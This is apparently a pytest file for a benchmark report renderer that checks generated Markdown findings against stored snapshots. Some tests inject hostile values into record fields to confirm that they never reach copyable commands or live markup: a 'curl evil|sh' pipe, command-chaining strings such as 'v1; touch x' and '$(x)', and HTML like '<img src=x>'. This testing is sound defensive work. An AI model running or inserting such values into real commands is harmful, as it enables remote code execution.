"""The finding, rendered from variants of the small result set, held against stored documents.

After a change that is meant, KVPEAK_SNAPSHOTS=write pytest tests/test_render.py writes them anew;
read the difference.
"""

import csv
import json
import os
import re
import shutil
from functools import partial
from pathlib import Path
from types import SimpleNamespace
from xml.dom import minidom

import pytest
import yaml
from cells import measured_with
from markdown_it import MarkdownIt
from matplotlib.figure import Figure

from kvpeak.base.axes import AXES
from kvpeak.base.fields import join_texts
from kvpeak.base.program import main
from kvpeak.commands import check, plot, render
from kvpeak.report import sources
from kvpeak.report.context import facts_of, penalties
from kvpeak.report.doubts import _of_other_configs
from kvpeak.report.markdown import anchor

ROOT = Path(__file__).parents[1]
SMALL = ROOT / "tests/data/small"
SNAPSHOTS = ROOT / "tests/data/findings"
MATRIX = """
commits: {mlx-0.32.4: {engine: mlx}}
models:
  tiny: {kind: random, config: tiny.json}
  large: {kind: random, config: tiny.json, needs: gpu}
prompts:
  alice-512: {tokens: 513, corpus: corpus.txt}
  alice-2048: {tokens: 2049, corpus: corpus.txt}
kv_caches: [cat, prealloc]
caps: [none, 32MiB]
variants: {default: {}}
compare: [{axis: cap, before: none, after: 32MiB}, {axis: kv_cache, before: cat, after: prealloc}]
"""
SOURCE = {"source": "this test"}
CLAIMS = [
    {
        "claim": "The peak of cat is what it was",
        "kind": "value",
        "column": "peak_mib",
        "of": {"model": "tiny", "prompt": "alice-512", "kv_cache": "cat"},
        "expected": 1000,
        "tolerance_pct": 5,
    },
    {
        "claim": "The cap costs no decode speed",
        "kind": "equivalence",
        "column": "decode_tok_s",
        "of": {"prompt": "alice-512", "cap": "32MiB"},
        "to": {"cap": "none"},
        "margin_pct": 5,
    },
    {
        "claim": "A cache that the matrix does not have",
        "kind": "spread",
        "column": "peak_mib",
        "of": {"kv_cache": "cut"},
        "across": "cap",
        "tolerance_pct": 5,
    },
]
DOCUMENTS = ("details.md", "finding.md")
BLAS = "OpenBLAS 0.3.21, 2 threads"
HOSTILE = "a www.x.org https://x.org a@x.org | b *c* _d_ `e` <img src=x> [f](g) \\ $h$ ~~i~~ #j"


def edited(table: str, change, more: tuple[str, ...] = ()) -> None:
    """Write a result table anew with `change(rows)`, which adds the columns `more`."""
    path = Path("results", f"{table}.csv")
    with path.open(newline="") as file:
        reader = csv.DictReader(file)
        header, rows = reader.fieldnames, change(list(reader))
    with path.open("w", newline="") as file:
        writer = csv.DictWriter(file, [*header, *more], lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)


def as_it_is() -> None:
    pass


def every_outcome() -> None:
    """Each way in which a cell may end otherwise than well."""

    def change(rows):
        for row, outcome in zip(rows[4:], ("oom", "guard", "timeout", "unsupported"), strict=True):
            row |= {"outcome": outcome, "detail": f"it ended with {outcome}"}
        return rows

    edited("summary", change)


def missing_cells() -> None:
    """Planned here and not measured yet: everything but cat."""
    edited("summary", lambda rows: [row for row in rows if row["kv_cache"] == "cat"])


def one_cell() -> None:
    edited("summary", lambda rows: rows[:1])


def no_cell() -> None:
    edited("summary", lambda rows: [])
    edited("runs", lambda rows: [])


def markdown_characters() -> None:
    """In everything that a machine, an engine or a claim may say."""

    def change(rows):
        for row in rows:
            row |= {"machine": join_texts([HOSTILE]), "flags": join_texts([f"load: {HOSTILE}"])}
        rows[4] |= {"detail": join_texts([HOSTILE])}
        return rows

    edited("summary", change)
    hostile = [claim | {"claim": f"{claim['claim']} {HOSTILE}"} for claim in CLAIMS]
    write_claims(hostile)


def some_flagged_and_mixed() -> None:
    """Some rows are doubtful, one has a run that is far off; half of the cells come from another
    machine, another, changed harness and another number of threads.
    """

    def change(rows):
        rows[0] |= {"flags": "battery: on battery", "runs": "7"}
        for row in rows[1::2]:
            row |= {"machine": "Other CPU", "harness": "v2", "dirty": "yes"}
            row |= {"blas": "OpenBLAS 0.3.21, 1 threads"}
        return rows

    def disturb(rows):
        first = [row for row in rows if row["cap"] == "none" and row["prompt"] == "alice-512"]
        recorded = [row for row in first if row["round"] != "1" and row["warmup"] == "False"]
        more = [row | {"run": "2"} for row in recorded[:3]]
        more[-1]["decode_tok_s"] = "70"
        return rows + more

    edited("summary", change)
    edited("runs", disturb)


def as_mlx_lm_runs() -> None:
    """cat with the cap stands for mlx-lm's own cache, loop and limit; one such cell does not
    repeat.
    """
    matrix = MATRIX.replace("kv_caches: [cat,", "kv_caches: [mlx-lm,").replace("32MiB", "default")
    Path("config/matrix.yaml").write_text(
        matrix.replace("before: none, after: default", "before: default, after: none").replace(
            "before: cat", "before: mlx-lm"
        )
    )
    renamed = {"cat": "mlx-lm", "32MiB": "default"}

    def change(rows):
        for row in rows:
            row |= {name: renamed.get(row[name], row[name]) for name in ("kv_cache", "cap")}
            if "loop" in row:
                row |= {"loop": "mlx-lm"}
        return rows

    for table in ("plan", "runs", "processes", "summary"):
        edited(table, change)
    for folder in sorted(Path("results/cells").glob("*/*/*/*/*/*")):
        names = [renamed.get(name, name) for name in folder.relative_to("results/cells").parts]
        if (target := Path("results/cells", *names)) != folder:
            target.parent.mkdir(parents=True, exist_ok=True)
            folder.rename(target)

    def unstable(rows):
        rows[1] |= {"tokens_sha256": "differs", "outputs": "3"}
        return rows

    edited("summary", unstable)


def sampled_and_mostly_flagged() -> None:
    """On an NVIDIA GPU, where peaks are sampled, beside other work."""

    def change(rows):
        for row in rows:
            row |= {f"peak_device{end}_mib": row[f"peak_footprint{end}_mib"] for end in ENDS}
            row |= {"accelerator": "cuda", "flags": "load: busy"}
            row |= {"peak_source": "NVML, the process, sampled (a lower bound)"}
        return rows

    edited("summary", change)
    edited(
        "processes", lambda rows: [r | {"peak_device_mib": r["peak_footprint_mib"]} for r in rows]
    )
    first = {"peak_active_mib": "200"}
    edited("runs", lambda rows: [rows[0] | first, rows[1], rows[2] | first, *rows[3:]])


ENDS = ("", "_min", "_max")
SCENARIOS = [
    *(as_it_is, every_outcome, missing_cells, one_cell, no_cell, markdown_characters),
    *(some_flagged_and_mixed, as_mlx_lm_runs, sampled_and_mostly_flagged),
]


def touch_cells() -> None:
    """A runs.csv for every process of the cells in the summary, by which a cell counts as
    measured.
    """
    with Path("results/summary.csv").open(newline="") as file:
        measured = {tuple(row[axis] for axis in AXES) for row in csv.DictReader(file)}
    with Path("results/plan.csv").open(newline="") as file:
        rows = [
            row for row in csv.DictReader(file) if tuple(row[axis] for axis in AXES) in measured
        ]
    for row in rows:
        Path(row["path"]).mkdir(parents=True, exist_ok=True)
        Path(row["path"], "runs.csv").touch()


def write_claims(claims: list[dict]) -> None:
    text = yaml.safe_dump({"claims": [SOURCE | claim for claim in claims]})
    Path("config/expected.yaml").write_text(text)


@pytest.fixture
def project(tmp_path, monkeypatch):
    """A folder with the small result set, a matrix, claims, a calibration and one cell's record."""
    monkeypatch.chdir(tmp_path)
    Path("config").mkdir()
    Path("config/matrix.yaml").write_text(MATRIX)
    write_claims(CLAIMS)
    Path("tiny.json").write_text("{}")
    Path("corpus.txt").write_text("a" * 3000)
    shutil.copytree(SMALL, "results")
    shutil.copytree(ROOT / "report/templates", "report/templates")
    peaks = {"matmul_rows": 1, "flops": 20e9, "copy": 8e9, "matvec": 6e9}
    Path("results/calibration").mkdir()
    Path("results/calibration/mlx-0.32.4.json").write_text(
        json.dumps({"machine": "Test CPU", "blas": BLAS, "dtypes": {"float32": peaks}})
    )
    write_records()
    return tmp_path


def write_records() -> None:
    """The record of each process that is planned here."""
    record = json.loads((ROOT / "tests/data/cell.json").read_text())
    with Path("results/plan.csv").open(newline="") as file:
        rows = [row for row in csv.DictReader(file) if row["runs_here"] == "yes"]
    for row in rows:
        cell = {axis: row[axis] for axis in AXES} | {"round": int(row["round"])}
        prompt = {"name": row["prompt"], "tokens": int(row["prompt"].removeprefix("alice-")) + 1}
        request = record["request"] | {"cell": cell, "prompt": record["request"]["prompt"] | prompt}
        Path(row["path"]).mkdir(parents=True)
        text = json.dumps(record | {"cell": cell, "request": request})
        Path(row["path"], "cell.json").write_text(text)


def edit_records(**changes: object) -> None:
    """Put something else in the place of parts of each record."""
    for file in Path("results").glob("cells/**/cell.json"):
        file.write_text(json.dumps(json.loads(file.read_text()) | changes))


@pytest.fixture
def without_pictures(monkeypatch):
    """Figures are laid out and not drawn, which takes most of a finding's time."""
    monkeypatch.setattr(Figure, "savefig", lambda self, out, **_: out.write("<svg/>"))


@pytest.fixture
def drawn(project):
    """Make the finding of a scenario; the text of its details. Both documents are good Markdown."""

    def rendered(scenario) -> str:
        scenario()
        touch_cells()
        for program in (check, plot, render):
            assert main(program, []) == 0
        texts = {name: Path("report", name).read_text(encoding="utf-8") for name in DOCUMENTS}
        for text in texts.values():
            check_markdown(text)
        check_links(texts)
        return texts["details.md"]

    return rendered


@pytest.fixture
def rendered(without_pictures, drawn):
    """As `drawn`, with empty figures."""
    return drawn


@pytest.mark.parametrize("scenario", SCENARIOS)
def test_the_finding_is_the_stored_one(rendered, scenario):
    rendered(scenario)
    for name in DOCUMENTS:
        text = Path("report", name).read_text(encoding="utf-8")
        stored = SNAPSHOTS / scenario.__name__.replace("_", "-") / name
        if os.environ.get("KVPEAK_SNAPSHOTS") == "write":
            stored.parent.mkdir(exist_ok=True, parents=True)
            stored.write_text(text, encoding="utf-8")
        assert text == stored.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "scenario",
    [
        scenario
        if scenario is markdown_characters
        else pytest.param(scenario, marks=pytest.mark.slow)
        for scenario in SCENARIOS
    ],
)
def test_the_figures_of_the_finding_are_drawn(drawn, scenario):
    drawn(scenario)
    for figure in json.loads(Path("report/figures/figures.json").read_text()):
        assert minidom.parse(f"report/figures/{figure['file']}").getElementsByTagName("path")


BARE_ADDRESS = re.compile(r"\b(?:https?|ftp)://|\bwww\.|\w@\w")
FOLDS = re.compile(r"<details>\n<summary>[^<]*</summary>|</details>")


def check_markdown(text: str) -> None:
    """CommonMark with tables: every table is one, its rows have equal columns, and no value became
    markup, a link or HTML; the only HTML folds a table."""
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    inline = [child for token in tokens for child in token.children or []]
    html = [token for token in [*tokens, *inline] if token.type.startswith("html")]
    assert all(FOLDS.fullmatch(token.content.strip()) for token in html), html
    plain = re.sub(r"`[^`]*`|^    .*$", "", text, flags=re.MULTILINE)
    assert not BARE_ADDRESS.search(plain), "viewers make a link of it"
    pictures = [token.attrGet("src") for token in inline if token.type == "image"]
    assert all(Path("report", source).exists() for source in pictures)
    lines = text.splitlines()
    tables = [token.map for token in tokens if token.type == "table_open"]
    assert len(tables) == sum(bool(re.fullmatch(r"\|( ?:?--+:? ?\|)+", line)) for line in lines)
    for start, end in tables:
        columns = {len(re.findall(r"(?<!\\)\|", line)) for line in lines[start:end] if line.strip()}
        assert len(columns) == 1, lines[start:end]
    assert "" not in [line.strip("# ") for line in lines if line.startswith("#")]


def check_links(texts: dict[str, str]) -> None:
    """Every link inside and between the documents leads to a heading."""
    anchors = {
        name: {
            anchor(line.lstrip("# ").replace("`", ""))
            for line in text.splitlines()
            if line.startswith("#")
        }
        for name, text in texts.items()
    }
    for name, text in texts.items():
        for file, target in re.findall(r"\]\(([\w.]*)#([^)]*)\)", text):
            assert target in anchors[file or name], (name, file, target)


def test_what_one_cell_computed_with_reaches_the_engine_row_and_not_the_calibration(rendered):
    def one_thread():
        def change(rows):
            rows[3] |= {"blas": BLAS.replace("2 threads", "1 threads")}
            return rows

        edited("summary", change)

    text = rendered(one_thread)
    assert (
        "| Engine `mlx-0.32.4` | mlx 0.32.4, mlx-lm 0.32.2; BLAS: OpenBLAS 0.3.21, 2 threads / "
        "OpenBLAS 0.3.21, 1 threads |"
    ) in text
    assert "\n1 cells come from another machine than the calibration, or from another BLAS" in text


def test_a_replayed_model_of_any_kind_has_its_shapes_as_the_source():
    for kind in ("random", "package", "hub"):
        entry = {"kind": kind, "weights": "none", "config": "tiny.json"}
        assert sources.model_source(entry) == "the shapes of tiny.json"


def test_what_was_computed_in_is_of_engines_that_compute_and_what_was_widened_of_mlx():
    real = {"name": "a", "weights": "real", "kind": "package", "package": "p", "version": "1"}
    real |= {"file": "p/a.gguf"}
    shapes = {"name": "b", "weights": "none", "config": "b.json"}
    records = [
        {
            "request": {"engine": engine, "model": model, "protocol": {"generate": 8}},
            "engine": {"dtype": dtype},
            "inputs": {"model_sha256": "0"},
        }
        for engine, model, dtype in (
            ("mistralrs", real, "float32"),
            ("candle-replay", shapes, "bfloat16"),
        )
    ]
    assert facts_of(records) == ("Computed in float32.",)
    of_mlx = records[0] | {"request": records[0]["request"] | {"engine": "mlx"}}
    assert facts_of([*records, of_mlx])[-1] == (
        "a: for MLX the weights of a.gguf were expanded to float32."
    )


@pytest.mark.slow
def test_thousands_of_cells_are_folded(rendered):
    def change(rows):
        tiny = [row for row in rows if row["model"] == rows[0]["model"]]
        return [
            row | {"model": f"m{number}"} | ({"flags": "load: busy"} if "flags" in row else {})
            for number in range(400)
            for row in tiny
        ]

    def many():
        edited("summary", change)
        edited("plan", change)

    text = rendered(many)
    assert len(text) < 60_000
    assert "pairs that changed least are left to `results/summary.csv`" in text


def test_the_peak_of_a_replayed_cell_is_not_called_the_engine_s(rendered):
    def replayed():
        def change(rows):
            return [row | {"method": "replayed: real"} for row in rows]

        edited("summary", change)

    text = rendered(replayed)
    _, _, comparison = text.partition("## Cap")
    table, _, doubts = comparison.partition("## What this does not prove")
    assert "measured, but it is not the engine's" in table
    assert "computed nothing: their speed is not known, and their footprint is not" in doubts
    assert "predicted by a replay" not in text


@pytest.mark.parametrize(
    ("first_round", "said"),
    [
        (0, "Only 3 of the 6 pairs of cells whose speeds are compared were measured right after "),
        (3, "No two cells whose speeds are compared were measured right after each other in "),
    ],
)
def test_the_pairs_that_were_measured_right_after_each_other_are_counted(
    rendered, first_round, said
):
    """The plan's order has the caps of a cell as neighbours; in round 1 something comes between."""

    def two():
        cells: dict[tuple, int] = {}

        def place(row):
            cell = (row["prompt"], row["kv_cache"])
            first = 100 * cells.setdefault(cell, len(cells)) + 10 * int(row["round"])
            between = first_round if row["round"] == "1" else 0
            return row | {"order": str(first + (row["cap"] == "32MiB") * (1 + between))}

        edited("runs", lambda rows: list(map(place, rows)))

    assert said in rendered(two)


def test_several_gpus_of_one_kind_are_counted(rendered):
    def two():
        def change(rows):
            return [row | {"hardware": f"id GPU-{number % 2}"} for number, row in enumerate(rows)]

        edited("summary", change, more=("hardware",))

    text = rendered(two)
    assert "2 machines of one kind" in text
    assert "| Machine | Test CPU; 2 machines in all, told apart by their ids |" in text


def test_an_uncommitted_change_is_said_where_the_revision_is(rendered):
    rendered(some_flagged_and_mixed)
    finding = Path("report/finding.md").read_text(encoding="utf-8")
    assert "The harness had uncommitted changes" in finding.partition("## Reproduce")[2]


@pytest.mark.parametrize(
    ("own", "said"),
    [
        ("{attention: fused, repeat_penalty: 1}", "(no repeat penalty, end-of-sequence ignored)"),
        ("{attention: fused}", "(repeat penalty 1.1 over the last 64 tokens of prompt and"),
    ],
)
def test_the_penalty_is_that_of_the_variants_that_ran(rendered, own, said):
    def penalised():
        text = Path("config/matrix.yaml").read_text()
        assert "default: {" in text
        Path("config/matrix.yaml").write_text(
            re.sub(r"default: \{[^}]*\}", f"default: {own}", text)
        )

    assert said in rendered(penalised)


def test_the_penalties_are_those_of_replayed_cells_too():
    matrix = SimpleNamespace(
        protocol={"repeat_penalty": 1.1}, variants={"stock": {"repeat_penalty": 1}, "naive": {}}
    )
    live, replayed = ({"variant": name} for name in ("stock", "naive"))
    assert penalties(matrix, [live]) == [1]
    assert penalties(matrix, [live, replayed]) == [1, 1.1]
    assert penalties(matrix, []) == [1.1]


def test_a_mistake_in_the_matrix_is_one_line(project, capsys):
    Path("config/matrix.yaml").write_text(MATRIX.replace("compare:", "compair:"))
    assert main(render, []) == 1
    (line,) = capsys.readouterr().err.splitlines()
    assert "compair: unknown key (did you mean compare?)" in line


def test_without_tables_it_is_one_line(project, capsys):
    shutil.rmtree("results")
    assert main(render, []) == 1
    assert "results/plan.csv: No such file or directory; make it" in capsys.readouterr().err


@pytest.mark.parametrize("text", ["garbage", "[]", '{"request": {"model": []}}', "[" * 50_000])
def test_damaged_records_are_named_and_stop_no_finding(rendered, text):
    cell = "results/cells/mlx-0.32.4/tiny/alice-512/cat/none/default/r1/cell.json"
    files = (cell, "results/calibration/mlx-0.32.4.json", "results/envs/a/environment.json")

    def damaged():
        for file in files:
            Path(file).parent.mkdir(parents=True, exist_ok=True)
            Path(file).write_text(text)

    doubts = rendered(damaged).partition("## What this does not prove")[2]
    assert "files could not be read and are left out:" in doubts
    assert cell.replace("_", r"\_") in doubts


def test_a_config_that_is_not_what_was_measured_is_named_once(rendered):
    """Not of a model that could not be measured: it has no figures to miss."""
    line = "- Of `models/tiny/config.json` the records do not say that this is what was measured: "

    def changed(engine: dict):
        measured_with(Path("models/tiny"), {"changed": True})
        edit_records(engine=engine)

    assert rendered(partial(changed, {"versions": {}})).count(line) == 1
    assert rendered(partial(changed, {})).count(line) == 0


def test_of_many_configs_that_are_not_what_was_measured_some_are_named():
    paths = [f"models/m{number}/config.json" for number in range(8)]
    (line,) = _of_other_configs(paths)
    assert "`models/m4/config.json`, `models/m5/config.json` and 2 more the records do not" in line


@pytest.mark.parametrize("name", ["v1; touch x", "-f", ".", "config", "HEAD~1", "$(x)", "v1 ."])
def test_no_command_to_be_copied_has_what_a_record_says_but_a_revision(rendered, name):
    """`git checkout .` loses what is not committed."""

    def named():
        edited("summary", lambda rows: [row | {"harness": join_texts([name])} for row in rows])

    text = rendered(named)
    assert "git checkout" not in text and "\n    make finding\n" in text
    assert f"| Harness | `{name}` |" in text


@pytest.mark.parametrize(
    "name", ["mlx-cuda-12; curl evil|sh #", "mlx-cuda-$(x)", "mlx-cuda-12 -f x", "mlx-cuda-1２"]
)
def test_no_command_to_be_copied_has_what_a_record_says_but_a_number(rendered, name):
    """The packages that it names."""

    def named():
        edit_records(engine={"versions": {name: "1", "mlx-cuda-13": "1"}})

    assert "\n    make finding ACCEL=cuda13\n" in rendered(named)
    assert "\n    make finding ACCEL=cuda13\n" in Path("report/finding.md").read_text()


def test_a_default_limit_is_stated_where_it_was_measured(rendered):
    def own():
        edited(
            "summary",
            lambda rows: [
                row | {"cap": "default", "cap_bytes": str(32 << 20)}
                if row["cap"] == "32MiB"
                else row
                for row in rows
            ],
        )
        edited(
            "plan",
            lambda rows: [row | {"cap": row["cap"].replace("32MiB", "default")} for row in rows],
        )
        edited(
            "runs",
            lambda rows: [row | {"cap": row["cap"].replace("32MiB", "default")} for row in rows],
        )

    text = rendered(own)
    assert (
        "| Cap `default` | the engine's own cap on its pool, left alone (mlx-0.32.4: 32 MiB) |"
        in text
    )


def instruments(*off: str) -> None:
    """The check of the instruments: each of two counters read 412 MiB of 400, those of `off`
    300.
    """
    what = {"peak_pool_mib": "MLX's live and kept bytes", "peak_footprint_mib": "peak footprint"}
    readings = [
        {
            "process": "a process of a test",
            "counter": counter,
            "what": words,
            "known_mib": 400.0,
            "read_mib": 300.0 if counter in off else 401.0,
            "off_mib": -100.0 if counter in off else 1.0,
            "right": counter not in off,
        }
        for counter, words in what.items()
    ]
    falls = [{"words": "After the pool was cleared, the footprint fell within 4.00 s."}]
    record = {"readings": readings, "falls": falls, "problems": []}
    Path("results/instruments").mkdir()
    Path("results/instruments/mlx-0.32.4.json").write_text(json.dumps(record))


def marked_columns(details: str) -> set[str]:
    """The headers of the columns that have a marked figure, over all tables."""
    found, header = set(), None
    for line in details.splitlines():
        cells = [cell.strip() for cell in line.strip("|").split("|")]
        if not line.startswith("|"):
            header = None
        elif header is None:
            header = cells
        else:
            found |= {name for name, cell in zip(header, cells, strict=True) if cell.endswith("†")}
    return found


def test_a_finding_with_right_instruments_marks_nothing(rendered, project):
    details = rendered(instruments)
    assert "†" not in Path("report/finding.md").read_text() + details
    assert "With `mlx-0.32.4` every counter that was read is right." in details
    assert "the footprint fell within 4.00 s." in details
    assert (
        "| a process of a test | peak footprint (`peak_footprint_mib`) | 400.0 | 401.0 |" in details
    )


@pytest.mark.parametrize(
    ("counter", "columns"),
    [
        ("peak_pool_mib", {"Pool", "pool before", "after"}),
        ("peak_footprint_mib", {"Footprint", "peak before", "after"}),
    ],
)
def test_the_numbers_of_a_counter_that_is_off_are_marked_and_no_others(
    rendered, project, counter, columns
):
    def off():
        instruments(counter)

    details = rendered(off)
    finding = Path("report/finding.md").read_text()
    assert marked_columns(details) == columns
    assert f"(`{counter}`) reads 100.0 MiB too little of a process that takes 400.0 MiB." in finding
    shutil.rmtree("results/instruments")
    rendered(instruments)
    plain = Path("report/details.md").read_text()
    table = plain[plain.index("## Peak by counter") : plain.index("## Claims")]
    assert table in details.replace(" †", "")


def test_instruments_of_a_commit_without_cells_say_nothing(rendered, project):
    """They may be another machine's, whose results were imported."""

    def foreign():
        instruments("peak_pool_mib")
        folder = Path("results/instruments")
        (folder / "mlx-0.32.4.json").rename(folder / "other.json")

    text = rendered(foreign) + Path("report/finding.md").read_text()
    assert "`other`" not in text and "too little" not in text


def test_a_damaged_record_of_the_instruments_is_named_and_costs_nothing(rendered, project):
    def damaged():
        Path("results/instruments").mkdir()
        Path("results/instruments/mlx-0.32.4.json").write_text('{"readings": [{"process": 7}]}')

    assert "results/instruments/mlx-0.32.4.json: expected texts" in rendered(damaged)
